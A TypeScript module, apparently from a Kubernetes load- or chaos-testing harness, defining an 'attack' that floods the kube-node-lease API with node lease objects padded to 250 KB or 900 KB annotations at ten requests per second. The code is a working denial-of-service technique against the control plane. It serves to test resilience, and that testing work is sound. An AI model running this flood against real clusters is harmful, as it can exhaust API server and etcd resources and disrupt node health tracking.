import type {Attack} from '../attack.ts'
import {inTurn} from './bodies.ts'

const PATH = '/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases'

/** A heartbeat is meant to be small. */
export const leases: Attack = {
  name: 'leases',
  aim: 'heartbeats of a megabyte',
  run: ({holdings, shoot, flood}) =>
    flood({perSecond: 10, atOnce: 3}, async (number) => {
      const node = inTurn(holdings.nodes, number)
      const body = JSON.stringify({
        metadata: {
          name: node.name,
          namespace: 'kube-node-lease',
          annotations: {text: String(number).padEnd(number % 2 === 0 ? 250_000 : 900_000, 'x')},
        },
        spec: {holderIdentity: node.name},
      })
      const {status} = await shoot(node, {method: 'PUT', path: `${PATH}/${node.name}`, body})
      if (status === 404) await shoot(node, {method: 'POST', path: PATH, body})
    }),
}
